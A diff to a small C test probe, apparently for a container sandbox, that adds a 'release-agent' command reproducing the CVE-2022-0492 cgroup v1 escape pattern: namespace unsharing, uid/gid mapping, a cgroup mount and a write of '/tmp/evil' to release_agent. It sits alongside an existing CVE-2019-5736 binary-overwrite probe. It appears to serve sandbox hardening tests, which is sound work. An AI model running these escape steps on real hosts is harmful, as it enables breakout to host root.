@@ -21,6 +21,8 @@
  *   hutch-probe keyrings                   the IDs of the session and user keyrings (without creating them)
  *   hutch-probe with-session PROG [ARG...] joins a new session keyring, then runs PROG (a host-side helper)
  *   hutch-probe exe-attack SECONDS [STOPFILE]  CVE-2019-5736: tries to write the binaries of hutch's processes
+ *   hutch-probe release-agent              CVE-2022-0492: a new user+mount+cgroup namespace, a cgroup v1
+ *                                          mount, and a write to its release_agent
  *
  * Exit status 0 when every line was printed (whatever the kernel said), 2
  * for a usage error.  This is test code: it must stay tiny and depend on
@@ -30,6 +32,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
 #include <stdarg.h>
@@ -372,6 +375,57 @@ static int cmd_keyrings(void)
         return 0;
 }
 
+static long write_file(const char *path, const char *text)
+{
+        int fd = open(path, O_WRONLY | O_CLOEXEC);
+        long r = 0;
+
+        if (fd < 0)
+                return -errno;
+        if (write(fd, text, strlen(text)) < 0)
+                r = -errno;
+        close(fd);
+        return r;
+}
+
+/* The CVE-2022-0492 pattern: become root of a new user namespace, mount a
+ * cgroup v1 hierarchy (a controller, else a named one) and write its
+ * release_agent, which the kernel would run as host root. */
+static int cmd_release_agent(void)
+{
+        static const char *const opts[] = { "rdma", "memory", "pids", "none,name=hutchprobe" };
+        char map[64];
+        uid_t uid = getuid();
+        gid_t gid = getgid();
+        long r = 0;
+
+        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
+                return print_result("unshare", -errno);
+        print_result("unshare", 0);
+        (void) write_file("/proc/self/setgroups", "deny");
+        snprintf(map, sizeof(map), "0 %u 1", (unsigned) uid);
+        r = write_file("/proc/self/uid_map", map);
+        snprintf(map, sizeof(map), "0 %u 1", (unsigned) gid);
+        if (r == 0)
+                r = write_file("/proc/self/gid_map", map);
+        print_result("maps", r);
+        (void) mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+        if (mkdir("/tmp/cgv1", 0755) < 0 && errno != EEXIST)
+                return print_result("mkdir", -errno);
+        r = -ENOENT;
+        for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
+                r = mount("cgroup", "/tmp/cgv1", "cgroup", 0, opts[i]) < 0 ? -errno : 0;
+                if (r == 0) {
+                        printf("mount-cgroup1: OK %s\n", opts[i]);
+                        break;
+                }
+        }
+        if (r < 0)
+                return print_result("mount-cgroup1", r);
+        print_result("release_agent", write_file("/tmp/cgv1/release_agent", "/tmp/evil"));
+        return 0;
+}
+
 /* ---- exe-attack: what a container does to rewrite the runtime's binary ----
  *
  * For SECONDS (or until STOPFILE exists) it scans /proc without pause for
@@ -707,12 +761,14 @@ int main(int argc, char **argv)
                 execvp(argv[0], argv);
                 return print_result("with-session", -errno);
         }
+        if (strcmp(cmd, "release-agent") == 0)
+                return cmd_release_agent();
         if (strcmp(cmd, "exe-attack") == 0)
                 return cmd_exe_attack(argc, argv);
         if (strcmp(cmd, "kill-all") == 0)
                 return print_result("kill-all", kill(-1, SIGKILL) < 0 ? -errno : 0);
 usage:
         fprintf(stderr, "usage: hutch-probe status|syscall|nr|list|fork|thread|stat|read|ls|write|create|mknod|"
-                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack ...\n");
+                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack|release-agent ...\n");
         return 2;
 }
